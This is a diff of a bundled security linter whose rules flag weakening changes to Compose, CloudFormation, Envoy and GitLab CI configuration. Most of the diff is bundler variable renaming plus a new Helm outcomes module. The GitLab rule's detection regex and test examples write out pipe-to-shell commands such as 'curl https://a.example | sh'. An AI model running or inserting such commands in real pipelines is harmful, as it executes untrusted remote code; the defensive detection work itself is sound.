 // src/domains/config/weakening.ts
-function weakWhenSet({ risk: risk2, praise, weak, safe, path: path25, file: file2 }) {
-  const example = examples(path25);
+function weakWhenSet({ risk: risk2, praise, weak, safe, path: path26, file: file2 }) {
+  const example = examples(path26);
   return {
     absent: 1,
     outcomes: {
@@ -20798,8 +26810,8 @@ function weakWhenSet({ risk: risk2, praise, weak, safe, path: path25, file: file
     ]
   };
 }
-function safeWhenSet({ risk: risk2, dropped = risk2, praise, weak, safe, path: path25, file: file2 }) {
-  const example = examples(path25);
+function safeWhenSet({ risk: risk2, dropped = risk2, praise, weak, safe, path: path26, file: file2 }) {
+  const example = examples(path26);
   return {
     absent: 0,
     outcomes: {
@@ -20818,8 +26830,8 @@ function safeWhenSet({ risk: risk2, dropped = risk2, praise, weak, safe, path: p
     ]
   };
 }
-function safeWhenOn({ risk: risk2, dropped = risk2, praise, weak, safe, path: path25, file: file2 }) {
-  const example = examples(path25);
+function safeWhenOn({ risk: risk2, dropped = risk2, praise, weak, safe, path: path26, file: file2 }) {
+  const example = examples(path26);
   return {
     outcomes: {
       flip: moved(risk2),
@@ -20842,14 +26854,14 @@ function present(node2) {
   if (node2.kind === "map") return node2.entries.size > 0 ? 1 : void 0;
   return node2.kind === "list" && node2.items.length > 0 ? 1 : void 0;
 }
-var TEMPLATE, safeOn, safeOff, unless, untouched, ordered, rankOf5, invert, moved, removed, added, hardened, templated, examples;
+var TEMPLATE2, safeOn, safeOff, unless, untouched, ordered, rankOf5, invert, moved, removed, added, hardened, templated, examples;
 var init_weakening = __esm({
   "src/domains/config/weakening.ts"() {
     "use strict";
     init_risk();
     init_tree();
     init_wording();
-    TEMPLATE = "{{ .Values.setting }}";
+    TEMPLATE2 = "{{ .Values.setting }}";
     safeOn = (node2) => rankOf5(switchOf(node2));
     safeOff = (node2) => rankOf5(invert(switchOf(node2)));
     unless = (weak) => (node2) => node2.kind === "scalar" ? Number(node2.text !== weak) : void 0;
@@ -20876,9 +26888,9 @@ var init_weakening = __esm({
       why: "The new value is the safer one.",
       fix: "Keep it; watch the first rollout for what relied on the old value."
     });
-    templated = (text4) => text4.replace(/([^\s:[\]{}=]*=)?[^\s:[\]{}=]+(?=[\s}\]]*$)/, (_3, flag = "") => `'${flag}${TEMPLATE}'`);
-    examples = (path25) => (before3, after2, outcome) => ({
-      ...path25 === void 0 ? {} : { path: path25 },
+    templated = (text4) => text4.replace(/([^\s:[\]{}=]*=)?[^\s:[\]{}=]+(?=[\s}\]]*$)/, (_3, flag = "") => `'${flag}${TEMPLATE2}'`);
+    examples = (path26) => (before3, after2, outcome) => ({
+      ...path26 === void 0 ? {} : { path: path26 },
       before: before3,
       after: after2,
       outcome
@@ -22889,7 +28901,7 @@ ${lines}`.trimEnd().replaceAll("\n", "\n      ")}
 });
 
 // src/domains/config/cloudformation/properties.ts
-var ENCRYPTS, ENCRYPTION_BLOCKS, OPENS, AUTHENTICATES, BLOCKS_PUBLIC, PROTECTS, BACKUPS, WATCHES, CONNECTIONS, GUARDS2, IDENTIFIES, RECORDS, ORIGINS, REPLACES;
+var ENCRYPTS, ENCRYPTION_BLOCKS, OPENS2, AUTHENTICATES, BLOCKS_PUBLIC, PROTECTS, BACKUPS, WATCHES, CONNECTIONS, GUARDS2, IDENTIFIES, RECORDS, ORIGINS, REPLACES;
 var init_properties2 = __esm({
   "src/domains/config/cloudformation/properties.ts"() {
     "use strict";
@@ -22932,7 +28944,7 @@ var init_properties2 = __esm({
       ["AWS::SecretsManager::Secret", "KmsKeyId"],
       ["AWS::ECR::Repository", "EncryptionConfiguration"]
     ];
-    OPENS = [
+    OPENS2 = [
       ["AWS::RDS::DBInstance", "PubliclyAccessible"],
       ["AWS::Redshift::Cluster", "PubliclyAccessible"],
       ["AWS::DMS::ReplicationInstance", "PubliclyAccessible"],
@@ -23219,7 +29231,7 @@ var init_exposure2 = __esm({
         fix: "Keep it in private subnets, and reach it from there.",
         equivalents: ["checkov:CKV_AWS_17", "checkov:CKV_AWS_87", "checkov:CKV_AWS_89", "checkov:CKV_AWS_69"],
         dialect: dialect4,
-        governs: isProperty(OPENS),
+        governs: isProperty(OPENS2),
         rank: safeOff,
         ...weakWhenSet({
           risk: "critical",
@@ -23609,7 +29621,7 @@ Parameters:
   Size: { Type: String${lines === "" ? "" : `, ${lines}`} }
 Resources: {}
 `;
-    inParameter = (name) => ({ keys, path: path25 }) => keys.length === 3 && keys[0] === "Parameters" && keys[2] === name && path25.at(-1)?.kind === "key";
+    inParameter = (name) => ({ keys, path: path26 }) => keys.length === 3 && keys[0] === "Parameters" && keys[2] === name && path26.at(-1)?.kind === "key";
     isHidden = (owner) => switchOf(at(owner, "NoEcho")) === true;
     parameters_default = [
       control({
@@ -24167,7 +30179,7 @@ ${rest === "" ? "" : `${rest}
 });
 
 // src/domains/config/rules/compose/deployment.ts
-var path2, dialect9, deployment_default;
+var path3, dialect9, deployment_default;
 var init_deployment = __esm({
   "src/domains/config/rules/compose/deployment.ts"() {
     "use strict";
@@ -24175,7 +30187,7 @@ var init_deployment = __esm({
     init_model2();
     init_control();
     init_weakening();
-    path2 = "compose.yaml";
+    path3 = "compose.yaml";
     dialect9 = "compose";
     deployment_default = [
       control({
@@ -24192,7 +30204,7 @@ var init_deployment = __esm({
           praise: "update starts the next container first",
           weak: "deploy: { update_config: { order: stop-first } }",
           safe: "deploy: { update_config: { order: start-first } }",
-          path: path2,
+          path: path3,
           file: service
         })
       }),
@@ -24210,7 +30222,7 @@ var init_deployment = __esm({
           praise: "failed update rolled back",
           weak: "deploy: { update_config: { failure_action: continue } }",
           safe: "deploy: { update_config: { failure_action: rollback } }",
-          path: path2,
+          path: path3,
           file: service
         })
       })
@@ -24219,7 +30231,7 @@ var init_deployment = __esm({
 });
 
 // src/domains/config/rules/compose/health.ts
-var path3, dialect10, checked2, networks, tests, names2, joins, health_default;
+var path4, dialect10, checked2, networks, tests, names2, joins, health_default;
 var init_health = __esm({
   "src/domains/config/rules/compose/health.ts"() {
     "use strict";
@@ -24229,7 +30241,7 @@ var init_health = __esm({
     init_setting_paths();
     init_tree();
     init_weakening();
-    path3 = "compose.yaml";
+    path4 = "compose.yaml";
     dialect10 = "compose";
     checked2 = (lines) => service(`healthcheck: { interval: 5s${lines} }`);
     networks = "networks: { back: {}, front: {} }";
@@ -24250,10 +30262,10 @@ var init_health = __esm({
         outcomes: { flip: moved("medium"), open: moved("medium"), hardened: hardened("health check switched on") },
         refine: ({ transition }) => transition === "flip" || transition === "open" || transition === "hardened" ? transition : void 0,
         examples: [
-          { path: path3, before: checked2(", test: [CMD, a]"), after: checked2(", test: [NONE]"), outcome: "flip" },
-          { path: path3, before: checked2(""), after: checked2(", disable: true"), outcome: "open" },
-          { path: path3, before: checked2(", disable: true"), after: checked2(""), outcome: "hardened" },
-          { path: path3, before: checked2(", test: [CMD, a]"), after: checked2(", test: [CMD, b]"), outcome: "none" }
+          { path: path4, before: checked2(", test: [CMD, a]"), after: checked2(", test: [NONE]"), outcome: "flip" },
+          { path: path4, before: checked2(""), after: checked2(", disable: true"), outcome: "open" },
+          { path: path4, before: checked2(", disable: true"), after: checked2(""), outcome: "hardened" },
+          { path: path4, before: checked2(", test: [CMD, a]"), after: checked2(", test: [CMD, b]"), outcome: "none" }
         ]
       }),
       control({
@@ -24268,9 +30280,9 @@ var init_health = __esm({
         absent: 0,
         outcomes: { drop: moved("medium"), hardened: hardened("service limited") },
         examples: [
-          { path: path3, before: service("mem_limit: 1g"), after: service(), outcome: "drop" },
-          { path: path3, before: service(), after: service("mem_limit: 1g"), outcome: "hardened" },
-          { path: path3, before: service("mem_limit: 1g"), after: service("mem_limit: 2g"), outcome: "none" }
+          { path: path4, before: service("mem_limit: 1g"), after: service(), outcome: "drop" },
+          { path: path4, before: service(), after: service("mem_limit: 1g"), outcome: "hardened" },
+          { path: path4, before: service("mem_limit: 1g"), after: service("mem_limit: 2g"), outcome: "none" }
         ]
       }),
       control({
@@ -24286,10 +30298,10 @@ var init_health = __esm({
         outcomes: { drop: { risk: "medium", message: (c3) => `\`${c3.name}\` of the service was removed.` } },
         refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
         examples: [
-          { path: path3, before: service("secrets: [db]"), after: service(), outcome: "drop" },
-          { path: path3, before: service("env_file: .env"), after: service("environment: { A: b }"), outcome: "drop" },
-          { path: path3, before: service("env_file: .env"), after: service(), outcome: "none" },
-          { path: path3, before: service(), after: service("secrets: [db]"), outcome: "none" }
+          { path: path4, before: service("secrets: [db]"), after: service(), outcome: "drop" },
+          { path: path4, before: service("env_file: .env"), after: service("environment: { A: b }"), outcome: "drop" },
+          { path: path4, before: service("env_file: .env"), after: service(), outcome: "none" },
+          { path: path4, before: service(), after: service("secrets: [db]"), outcome: "none" }
         ]
       }),
       control({
@@ -24305,18 +30317,18 @@ var init_health = __esm({
         refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
         examples: [
           {
-            path: path3,
+            path: path4,
             before: service("networks: [back]", networks),
             after: service("networks: [back, front]", networks),
             outcome: "flip"
           },
           {
-            path: path3,
+            path: path4,
             before: service("networks: [back, front]", networks),
             after: service("networks: [front, back]", networks),
             outcome: "none"
           },
-          { path: path3, before: service("", networks), after: service("networks: [back]", networks), outcome: "none" }
+          { path: path4, before: service("", networks), after: service("networks: [back]", networks), outcome: "none" }
         ]
       }),
       control({
@@ -24331,10 +30343,10 @@ var init_health = __esm({
         absent: 0,
         outcomes: { drop: removed("medium", "health check"), hardened: added("health check added", "health check") },
         examples: [
-          { path: path3, before: service("healthcheck: { test: pg_isready }"), after: service(), outcome: "drop" },
-          { path: path3, before: service(), after: service("healthcheck: { test: pg_isready }"), outcome: "hardened" },
+          { path: path4, before: service("healthcheck: { test: pg_isready }"), after: service(), outcome: "drop" },
+          { path: path4, before: service(), after: service("healthcheck: { test: pg_isready }"), outcome: "hardened" },
           {
-            path: path3,
+            path: path4,
             before: service("healthcheck: { test: pg_isready }"),
             after: service("healthcheck: { test: pg_isready, retries: 9 }"),
             outcome: "none"
@@ -24353,10 +30365,10 @@ var init_health = __esm({
         absent: 0,
         outcomes: { flip: moved("low"), drop: moved("low"), hardened: hardened("service now restarted") },
         examples: [
-          { path: path3, before: service("restart: always"), after: service('restart: "no"'), outcome: "flip" },
-          { path: path3, before: service("restart: always"), after: service(), outcome: "drop" },
-          { path: path3, before: service(), after: service("restart: unless-stopped"), outcome: "hardened" },
-          { path: path3, before: service("restart: always"), after: service("restart: unless-stopped"), outcome: "none" }
+          { path: path4, before: service("restart: always"), after: service('restart: "no"'), outcome: "flip" },
+          { path: path4, before: service("restart: always"), after: service(), outcome: "drop" },
+          { path: path4, before: service(), after: service("restart: unless-stopped"), outcome: "hardened" },
+          { path: path4, before: service("restart: always"), after: service("restart: unless-stopped"), outcome: "none" }
         ]
       })
     ];
@@ -24364,7 +30376,7 @@ var init_health = __esm({
 });
 
 // src/domains/config/rules/compose/project.ts
-var path4, withVolume, project_default;
+var path5, withVolume, project_default;
 var init_project = __esm({
   "src/domains/config/rules/compose/project.ts"() {
     "use strict";
@@ -24373,7 +30385,7 @@ var init_project = __esm({
     init_control();
     init_effective();
     init_weakening();
-    path4 = "compose.yaml";
+    path5 = "compose.yaml";
     withVolume = (volume4) => service('volumes: ["data:/var/lib/data"]', `volumes:
   data: ${volume4}`);
     project_default = [
@@ -24391,14 +30403,14 @@ var init_project = __esm({
           drop: { risk: "high", message: (c3) => `The volume \`${c3.name}\` was removed, and a service that used it stays.` }
         },
         examples: [
-          { path: path4, before: withVolume("{ driver: local }"), after: service(), outcome: "drop" },
+          { path: path5, before: withVolume("{ driver: local }"), after: service(), outcome: "drop" },
           {
-            path: path4,
+            path: path5,
             before: withVolume("{ driver: local }"),
             after: "services:\n  web:\n    image: web\n",
             outcome: "none"
           },
-          { path: path4, before: withVolume("{ driver: local }"), after: withVolume("{ driver: local } # data"), outcome: "none" }
+          { path: path5, before: withVolume("{ driver: local }"), after: withVolume("{ driver: local } # data"), outcome: "none" }
         ]
       }),
       control({
@@ -24414,8 +30426,8 @@ var init_project = __esm({
           flip: { risk: "high", message: (c3) => `The driver goes from \`${c3.from ?? ""}\` to \`${c3.to ?? ""}\`.` }
         },
         examples: [
-          { path: path4, before: withVolume("{ driver: local }"), after: withVolume("{ driver: nfs }"), outcome: "flip" },
-          { path: path4, before: withVolume("{ driver: local }"), after: withVolume('{ driver: "local" }'), outcome: "none" }
+          { path: path5, before: withVolume("{ driver: local }"), after: withVolume("{ driver: nfs }"), outcome: "flip" },
+          { path: path5, before: withVolume("{ driver: local }"), after: withVolume('{ driver: "local" }'), outcome: "none" }
         ]
       }),
       control({
@@ -24432,7 +30444,7 @@ var init_project = __esm({
           praise: "network now internal",
           weak: "internal: false",
           safe: "internal: true",
-          path: path4,
+          path: path5,
           file: (lines) => service("", `networks:
   back:
     driver: bridge${lines === "" ? "" : `
@@ -24451,9 +30463,9 @@ var init_project = __esm({
         outcomes: { flip: { risk: "high", message: () => "A named volume of the service is now one without a name." } },
         refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
         examples: [
-          { path: path4, before: service('volumes: ["data:/v"]'), after: service('volumes: ["/v"]'), outcome: "flip" },
-          { path: path4, before: service('volumes: ["/v"]'), after: service('volumes: ["data:/v"]'), outcome: "none" },
-          { path: path4, before: service('volumes: ["data:/v"]'), after: service('volumes: ["data:/v:ro"]'), outcome: "none" }
+          { path: path5, before: service('volumes: ["data:/v"]'), after: service('volumes: ["/v"]'), outcome: "flip" },
+          { path: path5, before: service('volumes: ["/v"]'), after: service('volumes: ["data:/v"]'), outcome: "none" },
+          { path: path5, before: service('volumes: ["data:/v"]'), after: service('volumes: ["data:/v:ro"]'), outcome: "none" }
         ]
       })
     ];
@@ -24461,7 +30473,7 @@ var init_project = __esm({
 });
 
 // src/domains/config/rules/compose/services.ts
-var path5, SENSITIVE, UNCONFINED, NO_NEW, has, isLocal, services_default;
+var path6, SENSITIVE, UNCONFINED, NO_NEW, has, isLocal, services_default;
 var init_services = __esm({
   "src/domains/config/rules/compose/services.ts"() {
     "use strict";
@@ -24472,7 +30484,7 @@ var init_services = __esm({
     init_tree();
     init_setting_paths();
     init_weakening();
-    path5 = "compose.yaml";
+    path6 = "compose.yaml";
     SENSITIVE = /(?:^|:)(?:2375|2376|2379|3306|5432|6379|9200|11211|27017)(?:[:/]|$)/;
     UNCONFINED = /^(?:seccomp|apparmor)[:=]unconfined$|^label[:=]disable$|^systempaths[:=]unconfined$/;
     NO_NEW = /^no-new-privileges(?:[:=]true)?$/;
@@ -24508,14 +30520,14 @@ var init_services = __esm({
           return SENSITIVE.test(to2) ? "sensitive" : "published";
         },
         examples: [
-          { path: path5, before: service(), after: service('ports: ["5432:5432"]'), outcome: "sensitive" },
-          { path: path5, before: service('ports: ["127.0.0.1:80:80"]'), after: service('ports: ["80:80"]'), outcome: "widened" },
-          { path: path5, before: service(), after: service('ports: ["8080:80"]'), outcome: "published" },
-          { path: path5, before: "", after: service('ports: ["8080:80"]'), outcome: "born" },
-          { path: path5, before: service('ports: ["80:80"]'), after: service('ports: ["127.0.0.1:80:80"]'), outcome: "hardened" },
-          { path: path5, before: service(), after: service('ports: ["127.0.0.1:5432:5432"]'), outcome: "none" },
+          { path: path6, before: service(), after: service('ports: ["5432:5432"]'), outcome: "sensitive" },
+          { path: path6, before: service('ports: ["127.0.0.1:80:80"]'), after: service('ports: ["80:80"]'), outcome: "widened" },
+          { path: path6, before: service(), after: service('ports: ["8080:80"]'), outcome: "published" },
+          { path: path6, before: "", after: service('ports: ["8080:80"]'), outcome: "born" },
+          { path: path6, before: service('ports: ["80:80"]'), after: service('ports: ["127.0.0.1:80:80"]'), outcome: "hardened" },
+          { path: path6, before: service(), after: service('ports: ["127.0.0.1:5432:5432"]'), outcome: "none" },
           {
-            path: path5,
+            path: path6,
             before: service('ports: ["8080:80"]'),
             after: service("ports: [{ target: 80, published: 8080 }]"),
             outcome: "none"
@@ -24540,15 +30552,15 @@ var init_services = __esm({
         },
         examples: [
           {
-            path: path5,
+            path: path6,
             before: service('security_opt: ["no-new-privileges:true"]'),
             after: service('security_opt: ["no-new-privileges:true", "seccomp:unconfined"]'),
             outcome: "flip"
           },
-          { path: path5, before: service(), after: service('security_opt: ["apparmor:unconfined"]'), outcome: "open" },
-          { path: path5, before: "", after: service('security_opt: ["label:disable"]'), outcome: "born" },
-          { path: path5, before: service('security_opt: ["label:disable"]'), after: service(), outcome: "hardened" },
-          { path: path5, before: service(), after: service('security_opt: ["seccomp:./profile.json"]'), outcome: "none" }
+          { path: path6, before: service(), after: service('security_opt: ["apparmor:unconfined"]'), outcome: "open" },
+          { path: path6, before: "", after: service('security_opt: ["label:disable"]'), outcome: "born" },
+          { path: path6, before: service('security_opt: ["label:disable"]'), after: service(), outcome: "hardened" },
+          { path: path6, before: service(), after: service('security_opt: ["seccomp:./profile.json"]'), outcome: "none" }
         ]
       }),
       control({
@@ -24568,15 +30580,15 @@ var init_services = __esm({
         },
         examples: [
           {
-            path: path5,
+            path: path6,
             before: service('security_opt: ["no-new-privileges:true"]'),
             after: service('security_opt: ["no-new-privileges:false"]'),
             outcome: "flip"
           },
-          { path: path5, before: service("security_opt: [no-new-privileges]"), after: service(), outcome: "drop" },
-          { path: path5, before: service(), after: service('security_opt: ["no-new-privileges:true"]'), outcome: "hardened" },
+          { path: path6, before: service("security_opt: [no-new-privileges]"), after: service(), outcome: "drop" },
+          { path: path6, before: service(), after: service('security_opt: ["no-new-privileges:true"]'), outcome: "hardened" },
           {
-            path: path5,
+            path: path6,
             before: service("security_opt: [no-new-privileges]"),
             after: service('security_opt: ["no-new-privileges:true"]'),
             outcome: "none"
@@ -24598,10 +30610,10 @@ var init_services = __esm({
           born: { risk: "medium", message: (c3) => `A new service has the device \`${c3.to ?? ""}\`.` }
         },
         examples: [
-          { path: path5, before: service(), after: service('devices: ["/dev/kvm:/dev/kvm"]'), outcome: "open" },
-          { path: path5, before: "", after: service('devices: ["/dev/kvm:/dev/kvm"]'), outcome: "born" },
+          { path: path6, before: service(), after: service('devices: ["/dev/kvm:/dev/kvm"]'), outcome: "open" },
+          { path: path6, before: "", after: service('devices: ["/dev/kvm:/dev/kvm"]'), outcome: "born" },
           {
-            path: path5,
+            path: path6,
             before: service('devices: ["/dev/a", "/dev/b"]'),
             after: service('devices: ["/dev/b", "/dev/a"]'),
             outcome: "none"
@@ -24621,10 +30633,10 @@ var init_services = __esm({
         outcomes: { flip: moved("high"), open: moved("high"), born: moved("medium") },
         refine: ({ transition }) => transition === "flip" || transition === "open" || transition === "born" ? transition : void 0,
         examples: [
-          { path: path5, before: service("group_add: [audio]"), after: service("group_add: [audio, docker]"), outcome: "flip" },
-          { path: path5, before: service(), after: service('device_cgroup_rules: ["c 1:3 mr"]'), outcome: "open" },
-          { path: path5, before: "", after: service("group_add: [docker]"), outcome: "born" },
-          { path: path5, before: service("group_add: [audio, docker]"), after: service("group_add: [docker]"), outcome: "none" }
+          { path: path6, before: service("group_add: [audio]"), after: service("group_add: [audio, docker]"), outcome: "flip" },
+          { path: path6, before: service(), after: service('device_cgroup_rules: ["c 1:3 mr"]'), outcome: "open" },
+          { path: path6, before: "", after: service("group_add: [docker]"), outcome: "born" },
+          { path: path6, before: service("group_add: [audio, docker]"), after: service("group_add: [docker]"), outcome: "none" }
         ]
       }),
       control({
@@ -24641,7 +30653,7 @@ var init_services = __esm({
           praise: "service no longer shares a namespace of its host",
           weak: "userns_mode: host",
           safe: "userns_mode: private",
-          path: path5,
+          path: path6,
           file: service
         })
       })
@@ -24758,7 +30770,7 @@ ${line2 === "" ? "" : `      ${line2}
         title: "Envoy no longer checks who calls",
         why: "Requests that the filter refused are now forwarded.",
         fix: "Keep the filter, or check in the services behind first.",
-        governs: ({ keys, path: path25, ownerAfter }) => ownerAfter !== void 0 && path25.at(-1)?.kind === "item" && endsWith(keys, ["http_filters"]),
+        governs: ({ keys, path: path26, ownerAfter }) => ownerAfter !== void 0 && path26.at(-1)?.kind === "item" && endsWith(keys, ["http_filters"]),
         rank: (node2) => GUARDS3.test(textAt(node2, "name") ?? "") ? 1 : void 0,
         absent: 0,
         outcomes: { drop: { risk: "critical", message: (c3) => `The filter \`${c3.name}\` was removed.` } },
@@ -24790,7 +30802,7 @@ ${line2 === "" ? "" : `      ${line2}
         title: "Envoy no longer limits requests",
         why: "One caller can take the service away from all others, or guess passwords without end.",
         fix: "Keep the filter, with a higher limit.",
-        governs: ({ keys, path: path25, ownerAfter }) => ownerAfter !== void 0 && path25.at(-1)?.kind === "item" && endsWith(keys, ["http_filters"]),
+        governs: ({ keys, path: path26, ownerAfter }) => ownerAfter !== void 0 && path26.at(-1)?.kind === "item" && endsWith(keys, ["http_filters"]),
         rank: (node2) => LIMITS3.test(textAt(node2, "name") ?? "") ? 1 : void 0,
         absent: 0,
         outcomes: { drop: { risk: "high", message: (c3) => `The filter \`${c3.name}\` was removed.` } },
@@ -24829,7 +30841,7 @@ ${line2 === "" ? "" : `      ${line2}
         title: "Envoy no longer records requests",
         why: "Nobody can tell any more who called what.",
         fix: "Keep `access_log`.",
-        governs: ({ keys, path: path25 }) => keys.at(-1) === "access_log" && path25.at(-1)?.kind === "key",
+        governs: ({ keys, path: path26 }) => keys.at(-1) === "access_log" && path26.at(-1)?.kind === "key",
         rank: present,
         absent: 0,
         outcomes: { drop: removed("medium", "`access_log`"), hardened: hardened("Envoy records requests") },
@@ -24877,7 +30889,7 @@ ${lines}`.trimEnd().replaceAll("\n", "\n  ")}
 });
 
 // src/domains/config/rules/gitlab/checks.ts
-var path6, dialect11, DOWNLOAD, CHECKS4, included, including, isWholeJob, isStillIncluded, checks_default;
+var path7, dialect11, DOWNLOAD, CHECKS4, included, including, isWholeJob, isStillIncluded, checks_default;
 var init_checks = __esm({
   "src/domains/config/rules/gitlab/checks.ts"() {
     "use strict";
@@ -24887,7 +30899,7 @@ var init_checks = __esm({
     init_setting_paths();
     init_tree();
     init_weakening();
-    path6 = ".gitlab-ci.yml";
+    path7 = ".gitlab-ci.yml";
     dialect11 = "gitlab-ci";
     DOWNLOAD = /\b(?:curl|wget)\b[^|\n;&]{0,500}\|\s{0,9}(?:sudo\s{1,9})?(?:ba|z|da)?sh\b/;
     CHECKS4 = /sast|secret[-_]detection|dependency[-_]scanning|container[-_]scanning|dast|license|semgrep|trivy|gitleaks|snyk|fuzz/i;
@@ -24917,25 +30929,25 @@ var init_checks = __esm({
         },
         examples: [
           {
-            path: path6,
+            path: path7,
             before: pipeline("before_script: [a]"),
             after: pipeline('before_script: ["curl https://a.example | sh"]'),
             outcome: "flip"
           },
           {
-            path: path6,
+            path: path7,
             before: pipeline(),
             after: pipeline('after_script: ["wget -qO- https://a.example | bash"]'),
             outcome: "open"
           },
-          { path: path6, before: "", after: pipeline('before_script: ["curl https://a.example | sh"]'), outcome: "born" },
+          { path: path7, before: "", after: pipeline('before_script: ["curl https://a.example | sh"]'), outcome: "born" },
           {
-            path: path6,
+            path: path7,
             before: pipeline('before_script: ["curl https://a.example | sh"]'),
             after: pipeline(),
             outcome: "hardened"
           },
-          { path: path6, before: pipeline(), after: pipeline('before_script: ["curl -o a https://a.example"]'), outcome: "none" }
+          { path: path7, before: pipeline(), after: pipeline('before_script: ["curl -o a https://a.example"]'), outcome: "none" }
         ]
       }),
       control({
@@ -24954,14 +30966,14 @@ var init_checks = __esm({
         outcomes: { drop: removed("medium", "job that looks for trouble") },
         refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
         examples: [
-          { path: path6, before: pipeline("", "sast: { script: [semgrep] }"), after: pipeline(), outcome: "drop" },
+          { path: path7, before: pipeline("", "sast: { script: [semgrep] }"), after: pipeline(), outcome: "drop" },
           {
-            path: path6,
+            path: path7,
             before: included("Security/SAST.gitlab-ci.yml", "Jobs/Build.gitlab-ci.yml"),
             after: included("Jobs/Build.gitlab-ci.yml"),
             outcome: "drop"
           },
-          { path: path6, before: pipeline("", "docs: { script: [mkdocs] }"), after: pipeline(), outcome: "none" }
+          { path: path7, before: pipeline("", "docs: { script: [mkdocs] }"), after: pipeline(), outcome: "none" }
         ]
       })
     ];
@@ -24969,7 +30981,7 @@ var init_checks = __esm({
 });
 
 // src/domains/config/rules/gitlab/jobs.ts
-var path7, dialect12, jobs_default;
+var path8, dialect12, jobs_default;
 var init_jobs = __esm({
   "src/domains/config/rules/gitlab/jobs.ts"() {
     "use strict";
@@ -24979,7 +30991,7 @@ var init_jobs = __esm({
     init_setting_paths();
     init_tree();
     init_weakening();
-    path7 = ".gitlab-ci.yml";
+    path8 = ".gitlab-ci.yml";
     dialect12 = "gitlab-ci";
     jobs_default = [
       control({
@@ -24996,7 +31008,7 @@ var init_jobs = __esm({
           praise: "failure of a job counts again",
           weak: "allow_failure: true",
           safe: "allow_failure: false",
-          path: path7,
+          path: path8,
           file: pipeline
         })
       }),
@@ -25015,9 +31027,9 @@ var init_jobs = __esm({
           hardened: added("job runs under a condition", "condition of the job")
         },
         examples: [
-          { path: path7, before: pipeline("only: [main]"), after: pipeline(), outcome: "drop" },
-          { path: path7, before: pipeline(), after: pipeline("rules: [{ if: $CI_COMMIT_BRANCH }]"), outcome: "hardened" },
-          { path: path7, before: pipeline("only: [main]"), after: pipeline("only: [main, next]"), outcome: "none" }
+          { path: path8, before: pipeline("only: [main]"), after: pipeline(), outcome: "drop" },
+          { path: path8, before: pipeline(), after: pipeline("rules: [{ if: $CI_COMMIT_BRANCH }]"), outcome: "hardened" },
+          { path: path8, before: pipeline("only: [main]"), after: pipeline("only: [main, next]"), outcome: "none" }
         ]
       }),
       control({
@@ -25042,15 +31054,15 @@ var init_jobs = __esm({
         },
         examples: [
           {
-            path: path7,
+            path: path8,
             before: pipeline("services: [postgres]"),
             after: pipeline('services: [postgres, "docker:dind"]'),
             outcome: "flip"
           },
-          { path: path7, before: pipeline(), after: pipeline('services: ["docker:27-dind"]'), outcome: "open" },
-          { path: path7, before: "", after: pipeline('services: ["docker:dind"]'), outcome: "born" },
-          { path: path7, before: pipeline('services: ["docker:dind"]'), after: pipeline(), outcome: "hardened" },
-          { path: path7, before: pipeline(), after: pipeline("services: [postgres]"), outcome: "none" }
+          { path: path8, before: pipeline(), after: pipeline('services: ["docker:27-dind"]'), outcome: "open" },
+          { path: path8, before: "", after: pipeline('services: ["docker:dind"]'), outcome: "born" },
+          { path: path8, before: pipeline('services: ["docker:dind"]'), after: pipeline(), outcome: "hardened" },
+          { path: path8, before: pipeline(), after: pipeline("services: [postgres]"), outcome: "none" }
         ]
       }),
       control({
@@ -25069,11 +31081,11 @@ var init_jobs = __esm({
           hardened: { ...hardened("job gets no identity"), message: () => "The job no longer gets an identity token." }
         },
         examples: [
-          { path: path7, before: pipeline(), after: pipeline("id_tokens: { AWS: { aud: a } }"), outcome: "open" },
-          { path: path7, before: "", after: pipeline("id_tokens: { AWS: { aud: a } }"), outcome: "born" },
-          { path: path7, before: pipeline("id_tokens: { AWS: { aud: a } }"), after: pipeline(), outcome: "hardened" },
+          { path: path8, before: pipeline(), after: pipeline("id_tokens: { AWS: { aud: a } }"), outcome: "open" },
+          { path: path8, before: "", after: pipeline("id_tokens: { AWS: { aud: a } }"), outcome: "born" },
+          { path: path8, before: pipeline("id_tokens: { AWS: { aud: a } }"), after: pipeline(), outcome: "hardened" },
           {
-            path: path7,
+            path: path8,
             before: pipeline("id_tokens: { AWS: { aud: a } }"),
             after: pipeline("id_tokens: { AWS: { aud: b } }"),
             outcome: "none"
@@ -25095,10 +31107,10 @@ var init_jobs = __esm({
           hardened: added("job bound to an environment", "environment of the job")
         },
         examples: [
-          { path: path7, before: pipeline("environment: production"), after: pipeline(), outcome: "drop" },
-          { path: path7, before: pipeline(), after: pipeline("environment: production"), outcome: "hardened" },
+          { path: path8, before: pipeline("environment: production"), after: pipeline(), outcome: "drop" },
+          { path: path8, before: pipeline(), after: pipeline("environment: production"), outcome: "hardened" },
           {
-            path: path7,
+            path: path8,
             before: pipeline("environment: production"),
             after: pipeline("environment: { name: production }"),
             outcome: "none"
@@ -25450,12 +31462,45 @@ var init_tokens = __esm({
   }
 });
 
+// src/domains/config/readers/outcomes.ts
+var stillReadOutcomes, readerOf2, stillReadOutcome, chart;
+var init_outcomes = __esm({
+  "src/domains/config/readers/outcomes.ts"() {
+    "use strict";
+    stillReadOutcomes = (said14) => ({
+      stops: {
+        risk: "high",
+        class: "availability",
+        title: "removed value still read",
+        message: (change2) => `${said14(change2)}, and ${readerOf2(change2)} still goes below the old one.`,
+        why: "Helm stops there with a nil pointer: unless whoever installs it sets the old value, the chart no longer installs or upgrades.",
+        fix: "Change the template in the same step, or give the value back."
+      },
+      empty: {
+        risk: "medium",
+        class: "compatibility",
+        title: "removed value still read",
+        message: (change2) => `${said14(change2)}, but ${readerOf2(change2)} still reads the old one.`,
+        why: "The template renders nothing there, and does not see what users set now.",
+        fix: "Change the template in the same step, or give the value back."
+      }
+    });
+    readerOf2 = ({ stillRead }) => `\`${stillRead?.path ?? ""}\``;
+    stillReadOutcome = (stillRead) => stillRead && (stillRead.fails ? "stops" : "empty");
+    chart = (values2, template) => ({
+      "chart/values.yaml": values2,
+      "chart/templates/web.yaml": template
+    });
+  }
+});
+
 // src/domains/config/rules/key-moved.ts
 var PUBLIC, said2, key_moved_default;
 var init_key_moved = __esm({
   "src/domains/config/rules/key-moved.ts"() {
     "use strict";
     init_changes();
+    init_outcomes();
     PUBLIC = { config: { isPublic: () => true } };
     said2 = ({ from: from3, to: to2 }) => `\`${from3}\` now stands at \`${to2}\`, with the same value.`;
     key_moved_default = configRule({
@@ -25465,14 +31510,28 @@ var init_key_moved = __esm({
       title: "key moved",
